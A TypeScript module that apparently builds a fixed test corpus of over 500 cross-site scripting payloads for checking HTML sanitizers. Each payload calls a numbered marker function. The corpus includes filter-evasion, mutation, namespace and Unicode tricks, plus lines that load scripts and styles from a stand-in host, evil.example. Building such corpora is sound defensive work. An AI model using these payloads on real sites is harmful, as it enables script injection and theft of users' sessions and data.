/** A text that would run a script in the page of whoever reads it. */
export interface Payload {
  /** it calls `__xss(n)` where it runs */
  n: number
  /** what it tries, for samples: one of each kind is always taken */
  kind: string
  text: string
}
/** Writes code by its number; every payload has the next one. */
type Write = (code: string) => string
type Kind = readonly [kind: string, write: Write]

const entities = (text: string): string =>
  [...text].map((one) => `&#${one.codePointAt(0)};`).join('')
const hexEntities = (text: string): string =>
  [...text].map((one) => `&#x${one.codePointAt(0)?.toString(16)}`).join(';') + ';'
const escapes = (text: string): string => text.replace('_', String.raw`\u005f`)
const encodings: readonly [name: string, of: (code: string) => string][] = [
  ['plain', (code) => code],
  ['entities', entities],
  ['hexadecimal entities', hexEntities],
  ['escapes', escapes],
  ['backticks', (code) => code.replace('(', '`').replace(')', '`')],
  [
    'no parentheses',
    (code) => `onerror=${code.slice(0, code.indexOf('('))};throw ${code.match(/\d+/)?.[0] ?? ''}`,
  ],
  ['window', (code) => `top['__x'+'ss'](${code.match(/\d+/)?.[0] ?? ''})`],
]
/** Elements with the handler that runs by itself, or when something points at them. */
const elements: readonly [tag: string, handler: string, rest: string][] = [
  ['img', 'onerror', 'src=x'],
  ['img', 'onload', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="'],
  ['image', 'onerror', 'src=x'],
  ['svg', 'onload', ''],
  ['body', 'onload', ''],
  ['video', 'onerror', 'src=x'],
  ['video', 'onloadstart', 'src=x'],
  ['audio', 'onerror', 'src=x'],
  ['input', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['button', 'onfocus', 'autofocus'],
  ['a', 'onfocus', 'href=# autofocus'],
  ['p', 'onfocus', 'tabindex=0 autofocus'],
  ['details', 'ontoggle', 'open'],
  ['marquee', 'onstart', ''],
  ['iframe', 'onload', ''],
  ['object', 'onerror', 'data=x'],
  ['embed', 'onload', 'src=/'],
  ['style', 'onload', ''],
  ['link', 'onload', 'rel=stylesheet href=/'],
  ['script', 'onerror', 'src=//evil.example/x'],
  ['p', 'onmouseover', 'style="position:fixed;inset:0"'],
  ['strong', 'onanimationstart', 'style="animation:spin 1s"'],
  ['blockquote', 'onpointerenter', ''],
  ['li', 'onclick', ''],
  ['math', 'onfocus', 'tabindex=1 autofocus'],
  ['custom-element', 'onfocus', 'tabindex=1 autofocus'],
  ['dialog', 'onfocus', 'open tabindex=1 autofocus'],
  ['track', 'onerror', 'src=x'],
]
/** Ways to write between a tag's parts that a filter may read otherwise than a browser. */
const shapes: readonly [
  name: string,
  of: (tag: string, handler: string, rest: string, code: string) => string,
][] = [
  ['quoted', (tag, on, rest, code) => `<${tag} ${rest} ${on}="${code}">`],
  ['bare', (tag, on, rest, code) => `<${tag} ${rest} ${on}=${code}>`],
  ['slashes', (tag, on, rest, code) => `<${tag}/${rest.replaceAll(' ', '/')}/${on}='${code}'/>`],
  ['new lines', (tag, on, rest, code) => `<${tag}\n${rest}\n${on}\n=\n"${code}"\n>`],
  [
    'mixed case',
    (tag, on, rest, code) => `<${tag.toUpperCase()} ${rest} ${on.replace('on', 'oN')}="${code}">`,
  ],
  ['not closed', (tag, on, rest, code) => `<${tag} ${rest} ${on}="${code}" `],
  [
    'in an allowed one',
    (tag, on, rest, code) => `<p><a href="https://a.example/<${tag} ${rest} ${on}=${code}>">x</a>`,
  ],
]
const fixed: readonly Kind[] = [
  ['script', (code) => `<script>${code}</script>`],
  ['script', (code) => `<SCRIPT SRC=data:text/javascript,${code}></SCRIPT>`],
  ['script', (code) => `<scr<script>ipt>${code}</scr</script>ipt>`],
  ['script', (code) => `<script\u0000>${code}</script>`],
  ['script', (code) => `<script type=module>${code}</script>`],
  ['script', (code) => `<svg><script>${code}</script></svg>`],
  ['script', (code) => `<svg><script href="data:,${code}"/></svg>`],
  ['script', (code) => `<script x>${code}</script x`],
  ['breakout of an attribute', (code) => `"><img src=x onerror=${code}>`],
  ['breakout of an attribute', (code) => `'><img src=x onerror=${code}>`],
  ['breakout of an attribute', (code) => `" autofocus onfocus=${code} x="`],
  ['breakout of an attribute', (code) => `' autofocus onfocus=${code} x='`],
  ['breakout of an attribute', (code) => `\` onmouseover=${code} \``],
  ['breakout of text', (code) => `</title><script>${code}</script>`],
  ['breakout of text', (code) => `</textarea><script>${code}</script>`],
  ['breakout of text', (code) => `</style><script>${code}</script>`],
  ['breakout of text', (code) => `</noscript><img src=x onerror=${code}>`],
  ['breakout of text', (code) => `--><img src=x onerror=${code}>`],
  ['breakout of text', (code) => `--!><img src=x onerror=${code}>`],
  ['breakout of text', (code) => `]]><img src=x onerror=${code}>`],
  ['breakout of a script', (code) => `</script><script>${code}</script>`],
  ['breakout of a script', (code) => `';${code};'`],
  ['breakout of a script', (code) => `";${code};"`],
  ['breakout of a script', (code) => `\\";${code}//`],
  ['breakout of a script', (code) => `\u2028${code}\u2029`],
  ['breakout of a script', (code) => `*/${code}/*`],
  ['breakout of a script', (code) => `<!--<script>${code}</script>-->`],
  ['template', (code) => `\${${code}}`],
  ['template', (code) => `{{constructor.constructor('${code}')()}}`],
  ['template', (code) => `{{${code}}}`],
  ['template', (code) => `<%= ${code} %>`],
  ['template', (code) => `#{${code}}`],
  ['template', (code) => `[[\${${code}}]]`],
  ['address', (code) => `<a href="javascript:${code}">x</a>`],
  ['address', (code) => `<a href="JaVaScRiPt:${code}">x</a>`],
  ['address', (code) => `<a href=" javascript:${code}">x</a>`],
  ['address', (code) => `<a href="java\tscript:${code}">x</a>`],
  ['address', (code) => `<a href="java\nscript:${code}">x</a>`],
  ['address', (code) => `<a href="\u0001javascript:${code}">x</a>`],
  ['address', (code) => `<a href="javascript&colon;${code}">x</a>`],
  ['address', (code) => `<a href="${entities('javascript:')}${code}">x</a>`],
  ['address', (code) => `<a href="https://a.example" href="javascript:${code}">x</a>`],
  ['address', (code) => `<a href='https://a.example"onmouseover="${code}'>x</a>`],
  ['address', (code) => `<a href="//evil.example" onclick="${code}">x</a>`],
  ['address', (code) => `<a href="vbscript:${code}">x</a>`],
  ['address', (code) => `<a href="data:text/html,<script>${code}</script>">x</a>`],
  [
    'address',
    (code) =>
      `<a href="data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}">x</a>`,
  ],
  ['address', (code) => `<svg><a xlink:href="javascript:${code}"><text y=9>x</text></a></svg>`],
  ['address', (code) => `<math href="javascript:${code}">x</math>`],
  ['address', (code) => `<form action="javascript:${code}"><button>x</button></form>`],
  ['address', (code) => `<button formaction="javascript:${code}">x</button>`],
  ['address', (code) => `<iframe src="javascript:${code}"></iframe>`],
  ['address', (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`],
  ['address', (code) => `<object data="javascript:${code}"></object>`],
  ['address', (code) => `<embed src="javascript:${code}">`],
  ['address', (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`],
  ['address', (code) => `<base href="javascript:${code}//">`],
  ['address', (code) => `[x](javascript:${code})`],
  ['address', (code) => `![x](x"onerror="${code})`],
  ['address', (code) => `javascript:${code}`],
  ['address', (code) => `javascript://%0a${code}`],
  ['mutation', (code) => `<xmp><p title="</xmp><img src=x onerror=${code}>">`],
  ['mutation', (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`],
  [
    'mutation',
    (code) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  ],
  ['mutation', (code) => `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`],
  [
    'mutation',
    (code) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  ],
  ['mutation', (code) => `<svg><p><style><!--</style><img src onerror=${code}>--></style>`],
  [
    'mutation',
    (code) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${code}></style>`,
  ],
  ['mutation', (code) => `<select><style></select><img src=x onerror=${code}></style></select>`],
  ['mutation', (code) => `<table><td><svg><desc><table><td></desc><img src=x onerror=${code}>`],
  ['mutation', (code) => `<textarea><p title="</textarea><img src=x onerror=${code}>">`],
  ['mutation', (code) => `<title><p title="</title><img src=x onerror=${code}>">`],
  ['mutation', (code) => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`],
  ['mutation', (code) => `<plaintext><img src=x onerror=${code}>`],
  ['mutation', (code) => `<noembed><p title="</noembed><img src=x onerror=${code}>">`],
  ['mutation', (code) => `<template><img src=x onerror=${code}></template>`],
  ['mutation', (code) => `<a id=body><a id=body name=innerHTML onclick=${code}>`],
  ['mutation', (code) => `<pre>\n\n<code>&lt;img src=x onerror=${code}&gt;</code></pre>`],
  ['mutation', (code) => `&amp;lt;img src=x onerror=${code}&amp;gt;`],
  ['mutation', (code) => `&lt;img src=x onerror=${code}&gt;`],
  ['mutation', (code) => `%3Cimg src=x onerror=${code}%3E`],
  ['namespaces', (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`],
  ['namespaces', (code) => `<svg><set attributeName=onmouseover to=${code}>`],
  [
    'namespaces',
    (code) => `<svg><a><animate attributeName=href values=javascript:${code} /><text>x</text></a>`,
  ],
  [
    'namespaces',
    (code) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}>#x"/></svg>`,
  ],
  ['namespaces', (code) => `<svg><foreignObject><img src=x onerror=${code}></foreignObject></svg>`],
  ['namespaces', (code) => `<svg><image href=x onerror=${code}>`],
  ['namespaces', (code) => `<svg><discard onbegin=${code}>`],
  [
    'namespaces',
    (code) =>
      `<math><maction actiontype="statusline#" xlink:href="javascript:${code}">x</maction></math>`,
  ],
  ['namespaces', (code) => `<?xml-stylesheet href="javascript:${code}"?>`],
  ['namespaces', (code) => `<![CDATA[<img src=x onerror=${code}>]]>`],
  ['namespaces', (code) => `<!DOCTYPE x [<!ENTITY e "${code}">]><p>&e;</p>`],
  ['Unicode', (code) => `＜img src=x onerror=${code}＞`],
  ['Unicode', (code) => `\u2039img src=x onerror=${code}\u203a`],
  ['Unicode', (code) => `<\u0000img src=x onerror=${code}>`],
  ['Unicode', (code) => `<img\u00a0src=x\u00a0onerror=${code}>`],
  ['Unicode', (code) => `<img\u2003src=x\u2003onerror=${code}>`],
  ['Unicode', (code) => `<\u200bimg src=x onerror=${code}>`],
  ['Unicode', (code) => `\u202e<img src=x onerror=${code}>`],
  ['Unicode', (code) => `<ımg src=x onerror=${code}>`],
  ['Unicode', (code) => `<ſcript>${code}</ſcript>`],
  ['Unicode', (code) => `+ADw-img src=x onerror=${code}+AD4-`],
  ['Unicode', (code) => `\ud83d<img src=x onerror=${code}>`],
  ['styles', () => `<style>@import "//evil.example/x.css"</style>`],
  ['styles', () => `<p style="background:url(//evil.example/x)">x</p>`],
  ['styles', () => `<img src="//evil.example/x.png">`],
  ['styles', () => `<img srcset="//evil.example/x.png 1x">`],
  ['styles', () => `<link rel=prefetch href="//evil.example/x">`],
  ['styles', () => `<audio src="//evil.example/x"></audio>`],
  ['styles', () => `<input type=image src="//evil.example/x">`],
  ['styles', (code) => `<p style="width:expression(${code})">x</p>`],
]

/** At least five hundred payloads, each with a number of its own; the same in every run. */
export function payloads(): Payload[] {
  const written: Kind[] = [
    ...fixed,
    ...elements.flatMap(([tag, handler, rest], row) =>
      shapes.map(([shape, of], column): Kind => {
        // each shape is written with each encoding over the elements
        const [encoding, encoded] = encodings[(row + column) % encodings.length] ?? encodings[0]!
        return [
          `${tag} ${handler}, ${shape}, ${encoding}`,
          (code) => of(tag, handler, rest, encoded(code)),
        ]
      }),
    ),
    ...elements
      .slice(0, 24)
      .flatMap(([tag, handler, rest]) =>
        ['">', "'>", '</script>', '</style></title>', '-->', '<p>', '\n', '</p></div>'].map(
          (before): Kind => [
            `after ${before.trim()}`,
            (code) => `${before}<${tag} ${rest} ${handler}=${code}>`,
          ],
        ),
      ),
  ]
  return written.map(([kind, write], n) => ({ n, kind, text: write(`__xss(${n})`) }))
}
